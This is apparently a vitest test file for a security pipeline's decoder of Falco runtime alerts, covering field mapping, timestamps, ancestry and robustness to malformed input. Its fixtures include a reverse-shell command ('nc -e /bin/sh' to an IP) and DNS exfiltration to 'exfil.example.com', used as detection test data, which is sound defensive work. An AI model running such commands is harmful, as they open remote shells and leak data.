import { readFileSync } from "node:fs";
import { pathToFileURL } from "node:url";
import fc from "fast-check";
import { describe, expect, it } from "vitest";
import { MemoryDedupStore } from "../../../lib/alerts/dedup-store.js";
import { MemoryLineageStore } from "../../../lib/lineage/memory-store.js";
import { newCounters } from "../../../lib/pipeline/counters.js";
import { processBatch } from "../../../lib/pipeline/process-batch.js";
import { compileRule } from "../../../lib/rule/compile-rule.js";
import type { DecodeOutput, RawRecord } from "../../../lib/telemetry/decoder.js";
import type { ExecEvent } from "../../../lib/telemetry/exec-event.js";
import { epochFromDecimal, epochFromIso, falcoDecoder } from "../../../lib/telemetry/sources/falco.js";
import { samplePath } from "../../helpers/samples.js";

const samples = pathToFileURL(samplePath("upstream/falco/"));
const ctx = { defaultHost: "stream-host" };

type Obj = Record<string, unknown>;

/**
 * Decodes a record given as its raw text (what the framing hands over), so that the nanosecond digits JSON.parse
 * loses are still there; or as a value, stringified.
 */
const decodeText = (text: string): DecodeOutput =>
  falcoDecoder.decode(JSON.parse(text), { text, line: 9 } satisfies RawRecord, ctx);
const decode = (value: unknown): DecodeOutput => {
  let text: string;
  try {
    text = JSON.stringify(value) ?? "";
  } catch {
    text = "<too deep>";
  }
  return falcoDecoder.decode(value, { text, line: 9 }, ctx);
};
const eventOf = (out: DecodeOutput): ExecEvent => {
  if (out.kind !== "event") throw new Error(`${out.kind}: ${out.reason}`);
  return out.event;
};

const readLines = (file: string): string[] =>
  readFileSync(new URL(file, samples), "utf8")
    .split("\n")
    .filter((line) => line.trim() !== "");

const DOCS = "website_docs_outputs_channels_terminal-shell.json";
const OPENFAAS = "website_blog_openfaas_alerts.jsonl";
const docsText = () => readLines(DOCS)[0]!;

/** Adds fields at the front of output_fields in the raw text, leaving every other byte (and digit) as written. */
const withFields = (text: string, fields: Obj): string =>
  text.replace('"output_fields": {', `"output_fields": {${JSON.stringify(fields).slice(1, -1)},`);

/** An alert as a rule configured per the shipping recipe writes it (the fields this decoder asks for). */
const configured = (fields: Obj = {}, top: Obj = {}): Obj => ({
  hostname: "web-1",
  output: "10:00:00.123456789: Warning Network tool launched (…)",
  priority: "Warning",
  rule: "Launch Suspicious Network Tool on Host",
  source: "syscall",
  tags: ["host", "mitre_execution", "network", "process"],
  time: "2026-01-05T10:00:00.123456789Z",
  output_fields: {
    "evt.time": "1767607200123456789",
    "evt.type": "execve",
    "proc.pid": 201,
    "proc.ppid": 200,
    "proc.exepath": "/usr/bin/nslookup",
    "proc.exe": "nslookup",
    "proc.name": "nslookup",
    "proc.cmdline": "nslookup exfil.example.com",
    "proc.cwd": "/tmp/",
    "proc.pexepath": "/usr/bin/dash",
    "proc.pname": "sh",
    "proc.pcmdline": "sh /tmp/x.sh",
    "user.name": "www-data",
    "user.uid": 33,
    "user.loginuid": -1,
    "container.id": "host",
    ...fields,
  },
  ...top,
});

async function pipeline(events: ExecEvent[]) {
  const deps = { store: new MemoryLineageStore(), dedup: new MemoryDedupStore(), rule: compileRule() };
  return processBatch(events, deps, newCounters());
}

describe("falcoDecoder on the upstream samples", () => {
  it("decodes every JSON alert with nothing malformed; stock alerts lack proc.pid and are skipped", () => {
    const outputs = [DOCS, OPENFAAS].flatMap((file) =>
      readLines(file).map((line) => {
        expect(falcoDecoder.matches(JSON.parse(line)), file).toBe(true);
        return decodeText(line);
      }),
    );
    expect(outputs.map((o) => o.kind)).toEqual(["skipped", "skipped", "skipped"]);
    const reasons = outputs.map((o) => (o.kind === "event" ? "" : o.reason));
    // The two terminal-shell alerts are spawns whose stock output names no pid.
    for (const reason of [reasons[0]!, reasons[1]!]) {
      expect(reason).toBe(
        'falco: rule "Terminal shell in container": output_fields lack proc.pid; configure the rule output ' +
          "(or append_output) to include proc.pid, proc.ppid, proc.exepath, proc.cmdline, proc.pexepath and " +
          "proc.pcmdline",
      );
    }
    // The API-server alert is a connection (fd.name), not a spawn.
    expect(reasons[2]).toBe(
      'falco: rule "Contact K8S API Server From Container" reports a file or network event ("fd.name"), ' +
        "not a process spawn",
    );
  });

  it("leaves the text-output sample to no JSON decoder: it is not JSON", () => {
    const text = readFileSync(new URL("website_blog_k8smeta_text-output.txt", samples), "utf8");
    expect(() => JSON.parse(text)).toThrow();
  });

  it("decodes the fields the docs sample has, once the output names the pids", () => {
    const text = withFields(docsText(), { "proc.pid": 4242, "proc.ppid": 4200 });
    const event = eventOf(decodeText(text));
    expect(event).toEqual({
      host: { name: "falco-xczjd" },
      container: { id: "ee97d9c4186f", image: "docker.io/library/alpine" },
      user: { name: "root" },
      process: {
        pid: 4242,
        ppid: 4200,
        // proc.name is all the sample has.
        executable: "sh",
        args: ["sh", "-c", "clear;", "(bash", "||", "ash", "||", "sh)"],
      },
      parent: { pid: 4200, executable: "runc" },
      time: 1685022245478,
      // The exact nanoseconds as written, although JSON.parse rounded the number.
      source: {
        format: "falco",
        eventId: "falco-xczjd:Terminal shell in container:1685022245478445995:4242",
      },
    });
  });

  it("decodes the 2021 alert (no hostname, no source, no tags) with the default host", () => {
    const text = withFields(readLines(OPENFAAS)[0]!, { "proc.pid": 31, "proc.ppid": 30 });
    const event = eventOf(decodeText(text));
    expect(event.host).toEqual({ name: "stream-host" });
    expect(event.container).toEqual({ id: "97c9868ea832", image: "alpine" });
    expect(event.process.args).toEqual(["sh", "-c", "uptime"]);
    expect(event.source.eventId).toBe("stream-host:Terminal shell in container:1618082841002873265:31");
    expect(event.time).toBe(1618082841002);
  });
});

describe("falcoDecoder: mapping", () => {
  it("decodes a configured alert: exepath, argv, parent with its cmdline, user, no container on the host", () => {
    const event = eventOf(decode(configured()));
    expect(event).toEqual({
      host: { name: "web-1" },
      user: { id: "33", name: "www-data" },
      process: {
        pid: 201,
        ppid: 200,
        executable: "/usr/bin/nslookup",
        args: ["nslookup", "exfil.example.com"],
        cwd: "/tmp/",
      },
      parent: { pid: 200, executable: "/usr/bin/dash", args: ["sh", "/tmp/x.sh"] },
      time: 1767607200123,
      source: {
        format: "falco",
        eventId: "web-1:Launch Suspicious Network Tool on Host:1767607200123456789:201",
      },
    });
  });

  it("finds the same attack chain as every source: a /tmp script that runs nslookup", async () => {
    // One alert: the script is only in the parent's command line, which the decoder keeps.
    const alerts = await pipeline([eventOf(decode(configured()))]);
    expect(alerts.map((a) => [a.utility.name, a.location.path, a.location.kind])).toEqual([
      ["nslookup", "/tmp/x.sh", "script"],
    ]);
  });

  it("takes argv[0] from proc.exe and the rest from proc.args when the output has them", () => {
    const event = eventOf(
      decode(configured({ "proc.exe": "/tmp/.x/nc", "proc.args": "-e /bin/sh 198.51.100.7 443" })),
    );
    expect(event.process.args).toEqual(["/tmp/.x/nc", "-e", "/bin/sh", "198.51.100.7", "443"]);
  });

  it("falls back from proc.exepath to proc.exe, then proc.name", () => {
    expect(eventOf(decode(configured({ "proc.exepath": "<NA>" }))).process.executable).toBe("nslookup");
    expect(eventOf(decode(configured({ "proc.exepath": null, "proc.exe": null }))).process.executable).toBe(
      "nslookup",
    );
  });

  it("reads ancestors from proc.aexepath[n] / proc.aname[n], nearest first, index 1 being the parent", () => {
    const event = eventOf(
      decode(
        configured({
          "proc.pexepath": "<NA>",
          "proc.pname": "<NA>",
          "proc.aexepath[1]": "/usr/bin/dash",
          "proc.aexepath[2]": "/tmp/dropper",
          "proc.apid[2]": 150,
          "proc.aname[3]": "bash",
          "proc.aexepath[4]": "/usr/sbin/sshd",
          "proc.aname[4]": "sshd",
          "proc.aexepath[5]": "<NA>",
        }),
      ),
    );
    expect(event.parent).toEqual({ pid: 200, executable: "/usr/bin/dash", args: ["sh", "/tmp/x.sh"] });
    expect(event.ancestors).toEqual([
      { pid: 150, executable: "/tmp/dropper" },
      { executable: "bash" },
      { executable: "/usr/sbin/sshd" },
    ]);
  });

  it("alerts on a utility whose grandparent is a /tmp file, from the alert's own ancestors", async () => {
    const event = eventOf(
      decode(
        configured({
          "proc.pcmdline": "sh -c nslookup exfil.example.com",
          "proc.aexepath[2]": "/tmp/dropper",
        }),
      ),
    );
    const alerts = await pipeline([event]);
    expect(alerts.map((a) => [a.location.path, a.location.kind, a.location.depth])).toEqual([
      ["/tmp/dropper", "ancestor", 2],
    ]);
  });

  it.each([
    ["<NA>", "<NA>"],
    [null, null],
    ["", ""],
  ])("treats empty parent fields (%j) as absent", (na, pid) => {
    const event = eventOf(
      decode(
        configured({
          "proc.ppid": pid,
          "proc.pexepath": na,
          "proc.pname": na,
          "proc.pcmdline": na,
          "proc.aname[2]": na,
        }),
      ),
    );
    expect(event.process.ppid).toBe(0);
    expect(event.parent).toBeUndefined();
    expect(event.ancestors).toBeUndefined();
  });

  it("keeps a parent known only by name with ppid 0 when the output has no proc.ppid", () => {
    const value = configured();
    const fields = value["output_fields"] as Obj;
    delete fields["proc.ppid"];
    delete fields["proc.pexepath"];
    delete fields["proc.pcmdline"];
    const event = eventOf(decode(value));
    expect(event.process.ppid).toBe(0);
    expect(event.parent).toEqual({ pid: 0, executable: "sh" });
  });

  it.each([
    ["container.image", { "container.image": "nginx:1.27" }, "nginx:1.27"],
    [
      "repository and tag",
      { "container.image.repository": "nginx", "container.image.tag": "1.27" },
      "nginx:1.27",
    ],
    ["repository only", { "container.image.repository": "nginx" }, "nginx"],
  ])("names the container image from %s", (_name, fields, image) => {
    const event = eventOf(decode(configured({ "container.id": "4f1a9c0b2d3e", ...fields })));
    expect(event.container).toEqual({ id: "4f1a9c0b2d3e", image });
  });

  it("flags a command line that fills Falco's 4096-byte argv buffer as truncated", () => {
    const long = `nslookup ${"a".repeat(4090)}`;
    expect(eventOf(decode(configured({ "proc.cmdline": long }))).process.argsTruncated).toBe(true);
    expect(eventOf(decode(configured())).process.argsTruncated).toBeUndefined();
  });

  it("uses the login uid when set, and not Falco's -1", () => {
    expect(eventOf(decode(configured({ "user.loginuid": 1000 }))).user.auditId).toBe("1000");
    expect(eventOf(decode(configured({ "user.loginuid": "-1" }))).user.auditId).toBeUndefined();
  });
});

describe("falcoDecoder: which alerts are execs", () => {
  it.each([
    ["evt.type execve", { "evt.type": "execve" }, {}, "event"],
    ["evt.type execveat", { "evt.type": "execveat" }, {}, "event"],
    ["evt.type openat", { "evt.type": "openat" }, {}, 'falco: evt.type "openat" is not an exec'],
    ["an execve enter event", { "evt.dir": ">" }, {}, "falco: execve enter event"],
    ["a failed execve", { "evt.res": "ENOENT" }, {}, "falco: failed execve"],
    ["a failed execve (rawres)", { "evt.rawres": -2 }, {}, "falco: failed execve"],
    ["a plugin source", {}, { source: "k8s_audit" }, 'falco: source "k8s_audit" is not syscall'],
    ["no evt.type, spawn rule", { "evt.type": null }, { rule: "Run shell untrusted", tags: [] }, "event"],
    [
      "no evt.type, mitre_execution tag",
      { "evt.type": "<NA>" },
      { rule: "Custom", tags: ["mitre_execution"] },
      "event",
    ],
    [
      "no evt.type, a file rule",
      { "evt.type": null, "fd.name": "/etc/shadow" },
      { rule: "Read sensitive file untrusted" },
      'falco: rule "Read sensitive file untrusted" reports a file or network event ("fd.name"), not a process spawn',
    ],
    [
      "no evt.type, another rule",
      { "evt.type": null },
      { rule: "Change thread namespace", tags: ["process"] },
      'falco: rule "Change thread namespace" is not a process-spawn rule (add evt.type to its output to decide)',
    ],
  ])("%s", (_name, fields, top, expected) => {
    const out = decode(configured(fields, top));
    if (expected === "event") expect(out.kind).toBe("event");
    else expect(out).toMatchObject({ kind: "skipped", reason: expected });
  });

  it("skips a spawn alert without an executable, naming what to configure", () => {
    const out = decode(
      configured({ "proc.exepath": "<NA>", "proc.exe": "<NA>", "proc.name": "<NA>", "proc.pid": "<NA>" }),
    );
    expect(out).toMatchObject({
      kind: "skipped",
      reason: expect.stringContaining(
        "output_fields lack proc.pid, proc.exepath (or proc.exe, proc.name); configure the rule output",
      ),
    });
  });
});

describe("falcoDecoder: times", () => {
  const timeOf = (evtTime: unknown, top: Obj = {}) => {
    const event = eventOf(decode(configured({ "evt.time": evtTime }, top)));
    return [event.time, event.source.eventId.split(":")[2]];
  };

  it.each([
    ["seconds (number)", 1767607200, 1767607200000, "1767607200000000000"],
    ["seconds (string)", "1767607200", 1767607200000, "1767607200000000000"],
    ["seconds with a fraction", 1767607200.5, 1767607200500, "1767607200500000000"],
    ["seconds with nanoseconds (string)", "1767607200.123456789", 1767607200123, "1767607200123456789"],
    ["milliseconds", 1767607200123, 1767607200123, "1767607200123000000"],
    ["microseconds", 1767607200123456, 1767607200123, "1767607200123456000"],
    ["nanoseconds (string)", "1767607200123456789", 1767607200123, "1767607200123456789"],
    // A float would round this up into the next millisecond: 1767607200123999999 / 1e6 → …124.
    [
      "nanoseconds just below a millisecond (string)",
      "1767607200123999999",
      1767607200123,
      "1767607200123999999",
    ],
    ["RFC 3339 in evt.time", "2026-01-05T10:00:00.123999999Z", 1767607200123, "1767607200123999999"],
  ])("%s", (_name, evtTime, ms, ns) => {
    expect(timeOf(evtTime)).toEqual([ms, ns]);
  });

  it("keeps a nanosecond JSON number exact from the record's text", () => {
    const text = JSON.stringify(configured({ "evt.time": 0 })).replace(
      '"evt.time":0',
      '"evt.time":1767607200123999999',
    );
    // What JSON.parse makes of it is already wrong: the float rounds into the next millisecond.
    expect(Math.floor((JSON.parse(text).output_fields["evt.time"] as number) / 1e6)).toBe(1767607200124);
    const event = eventOf(decodeText(text));
    expect(event.time).toBe(1767607200123);
    expect(event.source.eventId).toBe("web-1:Launch Suspicious Network Tool on Host:1767607200123999999:201");
  });

  it("falls back to the alert's time, exactly, when evt.time is absent or not an epoch", () => {
    for (const evtTime of ["<NA>", null, "10:00:00.123456789"]) {
      expect(timeOf(evtTime, { time: "2026-01-05T10:00:00.123999999Z" })).toEqual([
        1767607200123,
        "1767607200123999999",
      ]);
    }
    expect(timeOf(null, { time: "2026-01-05T11:00:00.5+01:00" })).toEqual([
      1767607200500,
      "1767607200500000000",
    ]);
  });

  it("is malformed with no usable time at all", () => {
    expect(decode(configured({ "evt.time": "soon" }, { time: "later" }))).toMatchObject({
      kind: "malformed",
      reason: "falco: no usable time (output_fields.evt.time, time)",
    });
  });

  it.each([
    ["1767607200", "1767607200000000000"],
    ["99999999999", "99999999999000000000"],
    ["100000000000", "100000000000000000"],
    ["18446744073709551615", "18446744073709551615"],
  ])("epochFromDecimal(%s) → %s ns", (text, ns) => {
    expect(epochFromDecimal(text)?.ns).toBe(ns);
  });

  it.each(["", "-1", "1e9", "1.2.3", "x", "9".repeat(21)])("epochFromDecimal(%j) → undefined", (text) => {
    expect(epochFromDecimal(text)).toBeUndefined();
  });

  it.each(["2026-13-01T00:00:00Z", "2026-01-05T10:00:00", "yesterday", "2026-01-05"])(
    "epochFromIso(%j) → undefined",
    (text) => {
      expect(epochFromIso(text)).toBeUndefined();
    },
  );
});

describe("falcoDecoder on hostile data", () => {
  let deep: unknown = "bottom";
  for (let i = 0; i < 100_000; i++) deep = i % 2 === 0 ? { output_fields: deep } : [deep];

  it.each([
    ["not an object", "alert", "falco: record is not a JSON object"],
    ["no output_fields", { rule: "r", output: "o" }, "falco: output_fields is missing"],
    ["output_fields an array", { rule: "r", output_fields: [] }, "falco: output_fields is not an object"],
    ["rule a number", configured({}, { rule: 7 }), "falco: rule is not a string"],
    ["pid an object", configured({ "proc.pid": { v: 1 } }), "falco: output_fields.proc.pid is not a number"],
    ["pid a fraction", configured({ "proc.pid": 1.5 }), "falco: output_fields.proc.pid is not a number"],
    ["ppid a word", configured({ "proc.ppid": "init" }), "falco: output_fields.proc.ppid is not a number"],
    [
      "exepath a number",
      configured({ "proc.exepath": 5 }),
      "falco: output_fields.proc.exepath is not a string",
    ],
    [
      "cmdline an array",
      configured({ "proc.cmdline": ["a"] }),
      "falco: output_fields.proc.cmdline is not a string",
    ],
    ["deeply nested", { rule: "r", output_fields: deep }, "falco: output_fields is not an object"],
  ])("%s → malformed", (_name, value, reason) => {
    expect(decode(value)).toMatchObject({ kind: "malformed", reason });
  });

  it("matches Falco alerts only", () => {
    expect(falcoDecoder.matches(configured())).toBe(true);
    expect(falcoDecoder.matches({ rule: "r", priority: "Notice", output_fields: {} })).toBe(true);
    expect(falcoDecoder.matches({ rule: "r", output_fields: {} })).toBe(false);
    expect(falcoDecoder.matches({ rule: 1, output: "o", output_fields: {} })).toBe(false);
    expect(falcoDecoder.matches({ process_exec: {}, node_name: "n" })).toBe(false);
    expect(falcoDecoder.matches({ process: {}, "@timestamp": "x" })).toBe(false);
  });

  it("never throws, whatever the value", () => {
    fc.assert(
      fc.property(fc.anything(), (value) => {
        expect(["event", "skipped", "malformed"]).toContain(decode(value).kind);
      }),
    );
    fc.assert(
      fc.property(fc.dictionary(fc.string(), fc.anything()), (fields) => {
        const out = decode({ rule: "Run shell", output: "o", output_fields: fields });
        expect(["event", "skipped", "malformed"]).toContain(out.kind);
        if (out.kind !== "event") expect(out.reason).toMatch(/^falco: /);
      }),
    );
  });

  it("never throws when any field of a configured alert is deleted or holds anything", () => {
    const top = configured();
    const keys = [
      ...Object.keys(top["output_fields"] as Obj).map((k) => ["output_fields", k]),
      ...Object.keys(top).map((k) => [k]),
      ["output_fields", "proc.aexepath[2]"],
      ["output_fields", "proc.args"],
    ];
    fc.assert(
      fc.property(
        fc.array(fc.tuple(fc.constantFrom(...keys), fc.anything(), fc.boolean()), {
          minLength: 1,
          maxLength: 5,
        }),
        (edits) => {
          const value = configured();
          for (const [path, junk, remove] of edits) {
            const owner = path.length === 1 ? value : (value["output_fields"] as Obj);
            if (!owner || typeof owner !== "object") continue;
            if (remove) delete owner[path[path.length - 1]!];
            else owner[path[path.length - 1]!] = junk;
          }
          const out = decode(value);
          expect(["event", "skipped", "malformed"]).toContain(out.kind);
          if (out.kind !== "event") expect(out.reason.length).toBeGreaterThan(0);
        },
      ),
      { numRuns: 500 },
    );
  });

  it("stays fast on a huge command line and many ancestor fields", () => {
    const fields: Obj = { "proc.cmdline": `nslookup ${"a ".repeat(500_000)}` };
    for (let i = 0; i < 10_000; i++) fields[`proc.aname[${i}]`] = "x";
    const started = performance.now();
    const event = eventOf(decode(configured(fields)));
    expect(performance.now() - started).toBeLessThan(2_000);
    expect(event.process.argsTruncated).toBe(true);
    expect(event.ancestors).toHaveLength(16);
  });
});
